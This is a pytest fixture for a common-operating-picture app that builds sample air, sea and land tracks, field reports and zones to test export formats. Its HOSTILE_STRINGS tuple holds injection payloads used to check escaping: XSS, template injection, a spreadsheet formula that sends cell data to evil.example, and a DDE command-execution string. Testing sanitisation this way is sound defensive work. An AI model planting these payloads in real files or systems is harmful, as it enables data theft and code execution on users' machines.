"""A small picture with every kind of item the exports write, hostile text included."""

from __future__ import annotations

import pytest
from shapely.geometry import Polygon

from cop_app.core.entities import Zone
from cop_app.core.enums import Domain, ZoneKind
from cop_app.core.picture import Picture
from cop_app.core.timeutil import parse_iso
from cop_app.core.updates import ReportUpdate, TrackUpdate, air_key, sea_key

T0 = parse_iso("2026-11-26T15:30:00Z")

HOSTILE_STRINGS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "]]><x>&amp;</x><![CDATA[",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
    "&amp; &lt;b&gt; \" ' `${alert(1)}`",
    "ctl\x01\x02\x1f\x7fchars",
    "rtl \u202egnp.exe",
    "{{ 7*7 }}{% if true %}jinja{% endif %}",
)


def build_picture(text: str = "Two explosions heard, 3 km NE") -> Picture:
    """Air (one hostile, one friend), sea, land track; reports of several statuses; zones."""
    pic = Picture()
    ups = [
        TrackUpdate(Domain.AIR, air_key("4b1805"), "sbs", T0 - 120, 47.00, 35.00,
                    {"callsign": "SWR123", "identity": "friend", "speed_kn": 420.0,
                     "course_deg": 90.0, "altitude_ft": 35000.0, "icao24": "4b1805"}),
        TrackUpdate(Domain.AIR, air_key("4b1805"), "sbs", T0 - 60, 47.00, 35.20, {}),
        TrackUpdate(Domain.AIR, air_key("abc123"), "sbs", T0 - 10, 47.50, 36.00,
                    {"callsign": text[:40], "identity": "hostile", "icao24": "abc123"}),
        TrackUpdate(Domain.SEA, sea_key(273456780), "ais", T0 - 30, 46.50, 36.50,
                    {"name": text, "mmsi": 273456780, "speed_kn": 11.5, "course_deg": 245.0,
                     "identity": "neutral"}),
        TrackUpdate(Domain.LAND, "cot:PATROL-7", "cot", T0 - 30, 47.80, 37.60,
                    {"callsign": "PATROL 7", "identity": "friend", "cot_type": "a-f-G-U-C",
                     "remarks": text}, stale_at=T0 + 600),
    ]
    reports = [
        ReportUpdate("rep-1", "field", T0 - 600, 47.90, 37.70,
                     {"type": "Point", "coordinates": [37.70, 47.90]},
                     {"event_type": "explosion", "status": "verified", "title": "Shelling",
                      "text": text, "reliability": "B", "credibility": 2, "count": 2}),
        ReportUpdate("rep-2", "field", T0 - 300, 47.95, 37.80, None,
                     {"event_type": "weapon_sighting", "status": "under_verification",
                      "title": text, "text": "Tank seen"}),
        ReportUpdate("rep-hidden", "field", T0 - 300, 47.95, 37.90, None,
                     {"event_type": "other", "status": "rejected", "title": "Rejected"}),
        ReportUpdate("rep-area", "field", T0 - 200, 48.0, 37.5,
                     {"type": "Polygon", "coordinates": [[[37.4, 47.9], [37.4, 48.1],
                                                          [37.6, 48.1], [37.6, 47.9],
                                                          [37.4, 47.9]]]},  # clockwise
                     {"event_type": "mine_uxo", "status": "reported", "title": "Mined field"}),
        ReportUpdate("rep-future", "field", T0 + 3600, 47.0, 37.0, None,
                     {"event_type": "burst", "status": "reported", "title": "Later"}),
    ]
    pic.upsert_many([*ups, *reports])
    # Clockwise exterior on purpose: the GeoJSON export must turn it round.
    pic.set_zone(Zone("z-buffer", ZoneKind.BUFFER, "Buffer A",
                      Polygon([(37.0, 47.0), (37.0, 47.5), (37.5, 47.5), (37.5, 47.0)]),
                      valid_from=T0 - 86400, valid_to=T0 + 86400))
    pic.set_zone(Zone("z-old", ZoneKind.CORRIDOR, "Expired corridor",
                      Polygon([(36.0, 46.0), (36.5, 46.0), (36.5, 46.5)]),
                      valid_from=T0 - 3 * 86400, valid_to=T0 - 86400))
    return pic


@pytest.fixture
def picture() -> Picture:
    return build_picture()
